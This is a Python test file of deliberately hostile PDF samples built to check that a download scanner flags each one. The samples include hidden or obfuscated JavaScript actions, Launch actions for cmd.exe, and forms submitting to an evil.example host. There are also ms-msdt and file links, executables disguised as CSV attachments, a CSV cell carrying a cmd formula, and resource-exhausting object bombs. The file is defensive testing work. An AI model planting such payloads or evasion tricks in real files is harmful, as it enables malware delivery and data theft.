"""PDFs that nobody may offer, each made here, with the reason why it is refused."""

import io

from pypdf import PdfReader, PdfWriter

from downloads.examining.findings import Finding as F
from tests.downloads.examining.pdf_writer import in_object_stream, objects_of, pdf, saved_again, stream, written

JS = b"<< /S /JavaScript /JS (app.alert(1)) >>"
LAUNCH = b"<< /S /Launch /F (cmd.exe) >>"


def annotation(entries: bytes, **more: bytes) -> bytes:
    return pdf(page=b"/Annots [10 0 R]", _10=b"<< /Type /Annot /Rect [0 0 9 9] %s >>" % entries, **more)


def link(action: bytes) -> bytes:
    return annotation(b"/Subtype /Link /A %s" % action)


def field(entries: bytes) -> bytes:
    return pdf(
        root=b"/AcroForm << /Fields [11 0 R] >>",
        page=b"/Annots [11 0 R]",
        _11=b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [0 0 90 9] %s >>" % entries,
    )


def attached(name: bytes, content: bytes) -> bytes:
    return pdf(
        root=b"/Names << /EmbeddedFiles << /Names [(a) 10 0 R] >> >>",
        _10=b"<< /Type /Filespec /F (%s) /UF (%s) /EF << /F 11 0 R >> >>" % (name, name),
        _11=stream(content, b"/Type /EmbeddedFile"),
    )


def encrypted(password: str, may: int = 0) -> bytes:
    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(pdf())))
    writer.encrypt(password, owner_password="owner", algorithm="RC4-128", permissions_flag=may)
    target = io.BytesIO()
    writer.write(target)
    return target.getvalue()


def deep(depth: int) -> bytes:
    return b"<< /A " * depth + JS + b">>" * depth


def hidden_in_an_earlier_state() -> bytes:
    return saved_again(pdf(root=b"/OpenAction %s" % JS), {1: objects_of()[1]})


def saved_very_often() -> bytes:
    content = pdf()
    for _time in range(40):
        content = saved_again(content, {15: b"<< /Kept /Yes >>"})
    return content


def cut() -> bytes:
    return pdf()[:-220] + b"\n%%EOF\n"


HOSTILE_PDFS: dict[str, tuple[bytes, F]] = {
    # Scripts
    "a script at the start": (pdf(root=b"/OpenAction %s" % JS), F.PDF_SCRIPT),
    "a script behind the action at the start": (
        pdf(root=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next %s >>" % JS),
        F.PDF_SCRIPT,
    ),
    "a script in a list behind the action at the start": (
        pdf(root=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /Next [<< /S /URI /URI (https://a.example) >> 10 0 R] >>",
            _10=JS),
        F.PDF_SCRIPT,
    ),  # fmt: skip
    "a script when the document closes": (pdf(root=b"/AA << /WC %s >>" % JS), F.PDF_SCRIPT),
    "a script of the document": (
        pdf(root=b"/Names << /JavaScript << /Kids [10 0 R] >> >>", _10=b"<< /Names [(a) << /JS (x) >>] >>"),
        F.PDF_SCRIPT,
    ),
    "a script when a page opens": (pdf(page=b"/AA << /O %s >>" % JS), F.PDF_SCRIPT),
    "a script behind a link": (link(JS), F.PDF_SCRIPT),
    "a script behind the link of a link": (link(b"<< /S /GoTo /D [3 0 R /Fit] /Next %s >>" % JS), F.PDF_SCRIPT),
    "a script when the mouse enters": (annotation(b"/Subtype /Link /AA << /E %s >>" % JS), F.PDF_SCRIPT),
    "a script of a field, for each key": (field(b"/AA << /K %s >>" % JS), F.PDF_SCRIPT),
    "a script of a field, that computes": (field(b"/AA << /C %s >>" % JS), F.PDF_SCRIPT),
    "a script behind a bookmark": (
        pdf(
            root=b"/Outlines 10 0 R",
            _10=b"<< /Type /Outlines /First 11 0 R /Last 11 0 R /Count 1 >>",
            _11=b"<< /Title (Analyse) /Parent 10 0 R /A %s >>" % JS,
        ),
        F.PDF_SCRIPT,
    ),
    "a script under a disguised name": (pdf(root=b"/OpenAction << /S /J#61vaScript /#4AS (x) >>"), F.PDF_SCRIPT),
    "a script whose kind stands elsewhere": (
        pdf(root=b"/OpenAction << /S 10 0 R /D 11 0 R >>", _10=b"/JavaScript", _11=b"(x)"),
        F.PDF_SCRIPT,
    ),
    "a script that nothing points at": (pdf(_15=JS), F.PDF_SCRIPT),
    "a script in a stream of objects": (in_object_stream(JS, b"/OpenAction 10 0 R"), F.PDF_SCRIPT),
    "a script five hundred steps deep": (pdf(root=b"/Extra 10 0 R", _10=deep(400)), F.PDF_SCRIPT),
    "an action of a kind that nobody knows": (pdf(root=b"/OpenAction << /S /RunThis /P (x) >>"), F.PDF_SCRIPT),
    "a drawing that is a program for printers": (
        pdf(_10=stream(b"(x) run", b"/Type /XObject /Subtype /PS")),
        F.PDF_SCRIPT,
    ),
    "a form that is a program": (pdf(root=b"/AcroForm << /XFA 10 0 R >>", _10=stream(b"<xdp/>")), F.PDF_FORM_PROGRAM),
    "two actions under one name": (
        pdf(root=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] >> /OpenAction << /S /URI /URI (https://a.example) >>"),
        F.PDF_BROKEN,
    ),
    # Programs and other files
    "a program at the start": (pdf(root=b"/OpenAction %s" % LAUNCH), F.PDF_STARTS),
    "a program behind a link": (link(LAUNCH), F.PDF_STARTS),
    "a program behind a bookmark": (
        pdf(root=b"/Outlines 10 0 R", _10=b"<< /First 11 0 R >>", _11=b"<< /Title (x) /A %s >>" % LAUNCH),
        F.PDF_STARTS,
    ),
    "a command of the reader's menu": (link(b"<< /S /Named /N /SaveAs >>"), F.PDF_STARTS),
    "another file": (link(b"<< /S /GoToR /F (\\\\\\\\evil\\\\share\\\\a.pdf) /D [0 /Fit] >>"), F.PDF_OPENS),
    "a file in this file": (link(b"<< /S /GoToE /T << /R /C /N (a) >> >>"), F.PDF_OPENS),
    "a thread in another file": (link(b"<< /S /Thread /F (a.pdf) /D 0 >>"), F.PDF_OPENS),
    # Data
    "a form that is sent": (field(b"/A << /S /SubmitForm /F (https://evil.example) >>"), F.PDF_SENDS),
    "a form that is sent when it is printed": (
        pdf(root=b"/AA << /WP << /S /SubmitForm /F (https://evil.example) >> >>"),
        F.PDF_SENDS,
    ),
    "a form that takes data in": (field(b"/A << /S /ImportData /F (a.fdf) >>"), F.PDF_SENDS),
    "a picture that lies elsewhere": (
        pdf(_10=stream(b"", b"/Type /XObject /Subtype /Image /F << /FS /URL /F (https://evil.example/a) >>")),
        F.PDF_FETCHES,
    ),
    "a page of another file, drawn": (
        pdf(_10=stream(b"", b"/Type /XObject /Subtype /Form /BBox [0 0 1 1] /Ref << /F (a.pdf) /Page 0 >>")),
        F.PDF_FETCHES,
    ),
    # Links
    "a link that is a script": (link(b"<< /S /URI /URI (javascript:alert\\(1\\)) >>"), F.PDF_LINK),
    "a link that is a script with a break in it": (link(b"<< /S /URI /URI (java\\nscript:a\\(\\)) >>"), F.PDF_LINK),
    "a link to a file": (link(b"<< /S /URI /URI (file:///C:/Windows/System32/calc.exe) >>"), F.PDF_LINK),
    "a link to a share": (link(b"<< /S /URI /URI (\\\\\\\\evil\\\\share) >>"), F.PDF_LINK),
    "a link to a tool of Windows": (link(b"<< /S /URI /URI (ms-msdt:/id PCWDiagnostic) >>"), F.PDF_LINK),
    "a base that makes all links files": (pdf(root=b"/URI << /Base (file:///C:/) >>"), F.PDF_LINK),
    # Files and media inside
    "a program inside": (attached(b"a.exe", b"MZ"), F.PDF_FILES),
    "a program that says it is a table": (attached(b"a.csv", b"MZ\x90\0"), F.PDF_FILES),
    "a table with a formula inside": (attached(b"a.csv", b"Ort;Zahl\n\"=cmd|'/c calc'!A0\";1\n"), F.PDF_FILES),
    "a PDF inside": (attached(b"a.pdf", pdf()), F.PDF_FILES),
    "a name with two endings": (
        pdf(
            _10=b"<< /Type /Filespec /F (a.exe) /UF (a.csv) /EF << /F 11 0 R >> >>",
            _11=stream(b"Ort;Zahl", b"/Type /EmbeddedFile"),
        ),
        F.PDF_FILES,
    ),
    "a file pinned to a page": (annotation(b"/Subtype /FileAttachment /FS << /F (a.txt) >>"), F.PDF_FILES),
    "a file that belongs to the document": (
        pdf(root=b"/AF [10 0 R]", _10=b"<< /Type /Filespec /F (a.xlsm) /EF << /F 11 0 R >> >>", _11=stream(b"PK")),
        F.PDF_FILES,
    ),
    "a file that no list names": (pdf(_15=stream(b"MZ\x90\0", b"/Type /EmbeddedFile")), F.PDF_FILES),
    "a portfolio": (pdf(root=b"/Collection << /View /D >>"), F.PDF_FILES),
    "a film": (annotation(b"/Subtype /Movie /Movie << /F (a.mp4) >>"), F.PDF_MEDIA),
    "a screen": (annotation(b"/Subtype /Screen"), F.PDF_MEDIA),
    "a film that plays": (link(b"<< /S /Rendition /OP 0 >>"), F.PDF_MEDIA),
    "a sound": (annotation(b"/Subtype /Sound /Sound 11 0 R", _11=stream(b"x")), F.PDF_MEDIA),
    "a program in rich media": (annotation(b"/Subtype /RichMedia /RichMediaContent << >>"), F.PDF_MEDIA),
    "a model in three dimensions": (annotation(b"/Subtype /3D /3DD 11 0 R", _11=stream(b"U3D")), F.PDF_MEDIA),
    # Locks
    "a password": (encrypted("secret"), F.PDF_PASSWORD),
    "printing locked": (encrypted("", 0b1111_0000_0000 & ~0b100), F.PDF_PRINTING_LOCKED),
    "copying locked": (encrypted("", 0b1000_0000_0100), F.PDF_LOCKED),
    "a lock that nobody knows": (
        written({**objects_of(), 10: b"<< /Filter /Evil.Lock /V 1 >>"}, b"/Encrypt 10 0 R /ID [(a) (a)]"),
        F.PDF_PASSWORD,
    ),
    # Hidden, broken, unbounded
    "a script in an earlier state": (hidden_in_an_earlier_state(), F.PDF_EARLIER),
    "a broken table of places": (pdf().replace(b"startxref\n", b"startxref\n9"), F.PDF_BROKEN),
    "the end cut off": (cut(), F.PDF_BROKEN),
    "an object that can't be read": (pdf(_10=b"<< /A (never closed"), F.PDF_BROKEN),
    "no root": (pdf(_10=b"<< >>").replace(b"/Root 1 0 R", b"/Root 9 0 R"), F.PDF_BROKEN),
    "a root that is nothing": (written({**objects_of(), 1: b"null"}), F.PDF_BROKEN),
    "a page that is nothing": (written({**objects_of(), 3: b"null"}), F.PDF_WITHOUT_PAGES),
    "a page tree that is its own parent": (
        written({**objects_of(), 2: b"<< /Type /Pages /Kids [2 0 R] /Count 1000000000 >>"}),
        F.PDF_BROKEN,
    ),
    "arrays in arrays without end": (pdf(root=b"/Extra 10 0 R", _10=b"[" * 200_000), F.PDF_BROKEN),
    "tables that name each other": (
        pdf().replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev 15"),
        F.PDF_BROKEN,
    ),
    "a bomb of objects": (in_object_stream(b"<< >>", padding=b" " * 200_000_000), F.PDF_BROKEN),
    "forty earlier states": (saved_very_often(), F.TOO_COMPLICATED),
}  # fmt: skip
FILLS_THE_MEMORY = in_object_stream(b"[" + b"<<>> " * 12_000_000 + b"]")
